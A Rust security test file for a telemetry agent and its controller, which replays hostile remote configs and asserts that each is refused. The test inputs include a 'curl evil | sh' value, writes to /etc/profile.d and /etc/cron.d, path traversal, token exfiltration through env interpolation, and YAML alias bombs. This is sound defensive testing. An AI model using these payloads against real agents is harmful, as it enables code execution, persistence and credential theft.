//! The attacks of issue 14, replayed against the real binaries: a remote
//! config may change what is measured, never own the node. Each is refused
//! with the rule and the field, the running config stays, nothing is
//! written outside the allowed directory and no secret is echoed.

use std::io::Read as _;
use std::path::Path;
use std::time::Duration;

use phoenix_tests::{Running, TempDir, binary, free_port, http_get, http_request, wait_for};

/// A value no error text, log line or file may ever contain.
const SECRET: &str = "s3cr3t-controller-token-0123456789";

/// The node's own config: a file exporter in `dir/out`, `/-/reload` bodies
/// accepted (as an operator may choose), and a policy that lets remote
/// configs write under `dir/out` only.
fn local_config(dir: &Path, telemetry: u16) -> String {
    format!(
        "receivers:
  procfs: {{ collection_interval: 1s }}
exporters:
  file: {{ path: \"{out}/local.jsonl\" }}
service:
  pipelines:
    metrics/local: {{ receivers: [procfs], exporters: [file] }}
  telemetry:
    address: 127.0.0.1:{telemetry}
    accept_config_body: true
  remote_config:
    file_export_dirs: [\"{out}\"]
",
        out = dir.join("out").display()
    )
}

/// A remote config: one pipeline through `processors` into `exporter`.
fn remote(receiver: &str, processors: &str, exporter: &str, service_extra: &str) -> String {
    format!(
        "receivers:\n  procfs: {receiver}\n{processors}exporters:\n  {exporter}\nservice:\n  pipelines:\n    metrics/remote: {{ receivers: [procfs], processors: [{}], exporters: [{}] }}\n{service_extra}",
        if processors.is_empty() {
            ""
        } else {
            "attributes/evil"
        },
        exporter.split(':').next().unwrap_or_default()
    )
}

fn healthz_hash(port: u16) -> String {
    let (_, body) = http_get(port, "/healthz").expect("healthz answers");
    let v: serde_json::Value = serde_json::from_str(&body).expect("healthz is JSON");
    v["config"]["hash"].as_str().unwrap_or_default().to_string()
}

struct Node {
    dir: TempDir,
    telemetry: u16,
    agent: Option<Running>,
}

impl Node {
    fn start(label: &str) -> Node {
        let dir = TempDir::new(label);
        std::fs::create_dir_all(dir.path().join("out")).unwrap();
        let telemetry = free_port();
        std::fs::write(
            dir.path().join("agent.yaml"),
            local_config(dir.path(), telemetry),
        )
        .unwrap();
        let mut node = Node {
            dir,
            telemetry,
            agent: None,
        };
        node.restart();
        node
    }

    fn restart(&mut self) {
        if let Some(agent) = self.agent.take() {
            agent.stop(Duration::from_secs(15));
        }
        let config = self.dir.path().join("agent.yaml");
        let state = self.dir.path().join("state");
        self.agent = Some(Running::start_with_env(
            &binary("phoenix-agent"),
            &[
                "--config",
                config.to_str().unwrap(),
                "--state-dir",
                state.to_str().unwrap(),
            ],
            &[("PHOENIX_CONTROLLER_TOKEN", SECRET)],
        ));
        wait_for(Duration::from_secs(20), || {
            http_get(self.telemetry, "/readyz").filter(|(s, _)| *s == 200)
        })
        .expect("agent ready");
    }

    /// POST a config body to `/-/reload`: it must be refused with a message
    /// containing `rule`, leaving the running config and the state dir as
    /// they were.
    fn refused(&self, text: &str, rule: &str) -> String {
        let before = healthz_hash(self.telemetry);
        let (status, body) =
            http_request(self.telemetry, "POST", "/-/reload", text).expect("reload answers");
        assert_eq!(status, 400, "refused: {body}");
        assert!(body.contains(rule), "names {rule:?}: {body}");
        assert!(!body.contains(SECRET), "echoes no secret: {body}");
        assert_eq!(
            healthz_hash(self.telemetry),
            before,
            "the running config stays"
        );
        assert!(
            !self.dir.path().join("state/remote-config.yaml").exists(),
            "a refused config is not kept"
        );
        body
    }
}

#[test]
fn a_reload_body_cannot_write_outside_the_allowed_directory() {
    let node = Node::start("sec-files");
    let pid = node.agent.as_ref().unwrap().pid();
    let out = node.dir.path().join("out");

    // A root-owned script through /proc/<pid>/root, with a shell command as
    // an attribute: refused, nothing created.
    let script = format!("/proc/{pid}/root{}/x.sh", out.display());
    let body = node.refused(
        &remote(
            "{ collection_interval: 1s }",
            "processors:\n  attributes/evil: { actions: [{ action: insert, key: x, value: 'curl evil | sh' }] }\n",
            &format!("file: {{ path: \"{script}\" }}"),
            "",
        ),
        "exporters::file",
    );
    assert!(body.contains("path"), "{body}");
    assert!(!out.join("x.sh").exists(), "nothing written");

    // Rotation over a file that is not the agent's: refused, intact.
    let victim = node.dir.path().join("victim.txt");
    std::fs::write(&victim, "precious\n").unwrap();
    node.refused(
        &remote(
            "{ collection_interval: 1s }",
            "",
            &format!(
                "file: {{ path: \"{}\", rotation: {{ max_megabytes: 1, max_backups: 0 }} }}",
                victim.display()
            ),
            "",
        ),
        "policy file_export_dirs",
    );
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n");

    // `..` does not climb out either.
    node.refused(
        &remote(
            "{ collection_interval: 1s }",
            "",
            &format!("file: {{ path: \"{}/../escaped.jsonl\" }}", out.display()),
            "",
        ),
        "policy file_export_dirs",
    );
    assert!(!node.dir.path().join("escaped.jsonl").exists());

    // Inside the directory it applies.
    let allowed = remote(
        "{ collection_interval: 1s }",
        "",
        &format!("file: {{ path: \"{}/remote.jsonl\" }}", out.display()),
        "",
    );
    let (status, body) =
        http_request(node.telemetry, "POST", "/-/reload", &allowed).expect("reload answers");
    assert_eq!(status, 200, "{body}");
}

#[test]
fn a_reload_body_cannot_read_secrets_or_send_them_away() {
    let node = Node::start("sec-env");
    // The token as a duration: refused by name, never echoed.
    node.refused(
        &remote(
            "{ collection_interval: '${env:PHOENIX_CONTROLLER_TOKEN:-10s}' }",
            "",
            "console:",
            "",
        ),
        "policy env",
    );
    // The token as a header to a listener of the pusher's choosing.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    node.refused(
        &remote(
            "{ collection_interval: 1s }",
            "",
            &format!(
                "otlp_http: {{ endpoint: 'http://127.0.0.1:{port}', headers: {{ authorization: 'Bearer ${{env:PHOENIX_CONTROLLER_TOKEN}}' }} }}"
            ),
            "",
        ),
        "policy env",
    );
    std::thread::sleep(Duration::from_secs(2));
    if let Ok((mut stream, _)) = listener.accept() {
        let mut got = String::new();
        let _ = stream.read_to_string(&mut got);
        panic!("the listener was contacted: {got}");
    }
    let agent = node.agent.unwrap();
    let output = agent.stop(Duration::from_secs(15));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("reload rejected"), "{stderr}");
    assert!(
        !stderr.contains(SECRET),
        "the log echoes no secret: {stderr}"
    );
}

#[test]
fn a_reload_body_cannot_open_the_reload_endpoint_for_good() {
    let mut node = Node::start("sec-telemetry");
    let open = remote(
        "{ collection_interval: 1s }",
        "",
        "console:",
        &format!(
            "  telemetry: {{ address: 127.0.0.1:{}, remote_reload: true, accept_config_body: true }}\n",
            node.telemetry
        ),
    );
    let local = healthz_hash(node.telemetry);
    node.refused(&open, "service.telemetry is local-only");
    // A kept config that an older agent accepted is held to the policy at
    // start: the local file runs, and the endpoint stays as it says.
    std::fs::create_dir_all(node.dir.path().join("state")).unwrap();
    std::fs::write(node.dir.path().join("state/remote-config.yaml"), &open).unwrap();
    node.restart();
    assert_eq!(healthz_hash(node.telemetry), local, "the local config runs");
}

/// Through the controller: a push or an experiment that breaks a target's
/// reported policy is refused with 400, naming the agent and the rule,
/// before anything is stored or sent.
#[test]
fn the_controller_refuses_what_a_targets_policy_forbids_before_storing_it() {
    use phoenix_tests::fleet::{api, hash_of, online, start_agent_with_env, start_controller};
    let dir = TempDir::new("sec-controller");
    let controller = start_controller(&dir.path().join("data"), free_port(), free_port());
    let agent = start_agent_with_env(
        dir.path(),
        "node-1",
        "prod",
        controller.grpc,
        &[("PHOENIX_CONTROLLER_TOKEN", SECRET)],
    );
    wait_for(Duration::from_secs(30), || {
        (online(controller.http).len() == 1).then_some(())
    })
    .expect("the agent is online");
    let before = hash_of(&agent);
    let push = |yaml: &str| {
        let body = serde_json::json!({ "selector": { "labels": { "env": "prod" } }, "yaml": yaml });
        api(controller.http, "POST", "/api/v1/pushes", &body.to_string())
    };
    let attacks = [
        (
            remote(
                "{ collection_interval: 1s }",
                "",
                "file: { path: /etc/profile.d/phoenix.sh }",
                "",
            ),
            "policy file_export_dirs",
        ),
        (
            remote(
                "{ collection_interval: '${env:PHOENIX_CONTROLLER_TOKEN:-10s}' }",
                "",
                "console:",
                "",
            ),
            "policy env",
        ),
        (
            remote(
                "{ collection_interval: 1s }",
                "",
                "console:",
                "  telemetry: { address: 0.0.0.0:8888, remote_reload: true, accept_config_body: true }\n",
            ),
            "service.telemetry is local-only",
        ),
        (
            remote("{ root_path: /tmp }", "", "console:", ""),
            "policy allow_root_path",
        ),
    ];
    for (yaml, rule) in &attacks {
        let (status, body) = push(yaml);
        assert_eq!(status, 400, "{rule}: {body}");
        let text = body.to_string();
        assert!(text.contains(rule), "names {rule:?}: {text}");
        assert!(text.contains("agent "), "names the agent: {text}");
        assert!(!text.contains(SECRET), "{text}");
    }
    let (status, pushes) = api(controller.http, "GET", "/api/v1/pushes", "");
    assert_eq!(status, 200);
    assert_eq!(
        pushes["pushes"].as_array().map(Vec::len),
        Some(0),
        "nothing stored: {pushes}"
    );
    assert_eq!(hash_of(&agent), before, "nothing sent");

    // An experiment whose base writes outside the targets' directory is
    // refused the same way.
    let definition = serde_json::json!({
        "definition": "name: escape\ntargets: { labels: { env: prod } }\nbase:\n  yaml: |\n    receivers: { procfs: {} }\n    exporters: { file: { path: /etc/cron.d/phoenix } }\n    service: { pipelines: { metrics: { receivers: [procfs], exporters: [file] } } }\ncandidates:\n  - template: process-standard-v1\ncritical_processes: ['^phoenix-agent$']\nduration: 30s\n"
    });
    let (status, body) = api(
        controller.http,
        "POST",
        "/api/v1/experiments",
        &definition.to_string(),
    );
    assert_eq!(status, 400, "{body}");
    assert!(
        body.to_string().contains("policy file_export_dirs"),
        "{body}"
    );
}

/// Hostile YAML is refused by its budget, through every door: the agent's
/// `validate`, a `/-/reload` body, and a push to the controller.
#[test]
fn hostile_yaml_is_refused_by_its_budget_everywhere() {
    use phoenix_benches::hostile_yaml::{alias_bomb, deep_block, deep_flow_mappings};
    let node = Node::start("sec-yaml");
    let bomb = alias_bomb(9, 500);
    assert!(bomb.len() > 20_000, "the issue's 25 KB bomb");

    // `phoenix-agent validate` on 100 KB of nesting: exit 3, by the budget.
    for (name, text) in [
        ("deep.yaml", deep_block(100_000)),
        ("bomb.yaml", bomb.clone()),
    ] {
        let path = node.dir.path().join(name);
        std::fs::write(&path, &text).unwrap();
        let out = Running::start(
            &binary("phoenix-agent"),
            &["validate", "--config", path.to_str().unwrap()],
        )
        .wait_exit(Duration::from_secs(30));
        assert_eq!(out.status.code(), Some(3), "{name}: {out:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains("YAML budget"), "{name}: {stderr}");
    }

    // A reload body: 400, the running config stays.
    node.refused(&bomb, "YAML budget");
    node.refused(&deep_flow_mappings(100_000), "invalid YAML");

    // A push through the controller: 400 before anything is stored.
    use phoenix_tests::fleet::{api, start_controller};
    let controller = start_controller(&node.dir.path().join("data"), free_port(), free_port());
    let body = serde_json::json!({ "selector": { "labels": { "env": "prod" } }, "yaml": bomb });
    let (status, answer) = api(controller.http, "POST", "/api/v1/pushes", &body.to_string());
    assert_eq!(status, 400, "{answer}");
    assert!(answer.to_string().contains("YAML budget"), "{answer}");
}
